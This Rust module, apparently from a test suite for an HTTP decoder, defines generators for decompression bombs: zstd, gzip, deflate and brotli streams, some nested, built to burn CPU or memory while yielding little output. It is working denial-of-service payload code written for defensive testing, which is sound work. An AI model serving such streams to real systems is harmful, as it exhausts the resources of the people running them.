//! Bombs whose content coding is the attack: much is read and little or nothing comes out, or tables are built for nothing.

use super::{Bomb, brotli, gzip};

pub(super) const BOMBS: &[Bomb] = &[
    coded("zstd-skipped-in-brotli", "zstd, br", |bytes| brotli(&skippable(bytes))),
    coded("zstd-skipped-many-in-gzip", "zstd, gzip", |bytes| gzip(&skippable(8).repeat(bytes / 16))),
    coded("zstd-skipped", "zstd", skippable),
    coded("zstd-empty-blocks-in-brotli", "zstd, br", |bytes| brotli(&zstd_blocks(bytes))),
    coded("zstd-drops-in-brotli", "zstd, br", |bytes| brotli(&zstd_drops(bytes))),
    coded("gzip-empty-members", "gzip", gzip_members),
    coded("gzip-empty-members-in-gzip", "gzip, gzip", |bytes| gzip(&gzip_members(bytes))),
    coded("gzip-zeros-in-gzip", "gzip, gzip", |bytes| gzip(&gzip(&vec![0; bytes * 8]))),
    coded("deflate-empty-blocks", "deflate", deflate_blocks),
    coded("deflate-empty-blocks-in-gzip", "deflate, gzip", |bytes| gzip(&deflate_blocks(bytes))),
    coded("deflate-tables-in-gzip", "deflate, gzip", |bytes| gzip(&deflate_tables(bytes))),
    coded("brotli-metadata", "br", brotli_metadata),
    coded("brotli-metadata-in-gzip", "br, gzip", |bytes| gzip(&brotli_metadata(bytes))),
];

const fn coded(name: &'static str, coding: &'static str, make: fn(usize) -> Vec<u8>) -> Bomb {
    Bomb { name, media: "text/html", coding, make }
}

/// A skippable frame of zstd (RFC 8878, 3.1.2).
fn skippable(bytes: usize) -> Vec<u8> {
    let mut frame = 0x184D_2A50u32.to_le_bytes().to_vec();
    frame.extend(u32::try_from(bytes).unwrap_or(u32::MAX).to_le_bytes());
    frame.resize(8 + bytes, 0);
    frame
}

/// A frame of zstd of blocks without content.
fn zstd_blocks(bytes: usize) -> Vec<u8> {
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58];
    frame.resize(6 + bytes / 3 * 3, 0);
    frame
}

/// One byte of content for every half a megabyte that is skipped.
fn zstd_drops(bytes: usize) -> Vec<u8> {
    let drop = ::zstd::encode_all(&b"x"[..], 1).expect("memory takes everything");
    let piece = [skippable(512 * 1024), drop].concat();
    piece.repeat(bytes / piece.len() + 1)
}

fn gzip_members(bytes: usize) -> Vec<u8> {
    let empty = gzip(b"");
    empty.repeat(bytes / empty.len())
}

/// zlib whose blocks hold no byte.
fn deflate_blocks(bytes: usize) -> Vec<u8> {
    [&[0x78, 0x9c][..], &[0, 0, 0, 0xff, 0xff].repeat(bytes / 5)].concat()
}

/// Raw deflate of blocks of fixed codes that end at once: the decoder makes its tables anew for ten bits each.
fn deflate_tables(bytes: usize) -> Vec<u8> {
    // Not the last block, fixed codes, end of block: 0, 1 0, 0000000, from the lowest bit up.
    let mut out = vec![0u8; bytes];
    for block in 0..bytes * 8 / 10 {
        let bit = block * 10 + 1;
        out[bit / 8] |= 1 << (bit % 8);
    }
    out
}

/// Meta-blocks of brotli that hold metadata, of no length (RFC 7932, 9.2).
fn brotli_metadata(bytes: usize) -> Vec<u8> {
    let mut stream = vec![0x06; bytes];
    stream[0] = 0x0c;
    stream
}
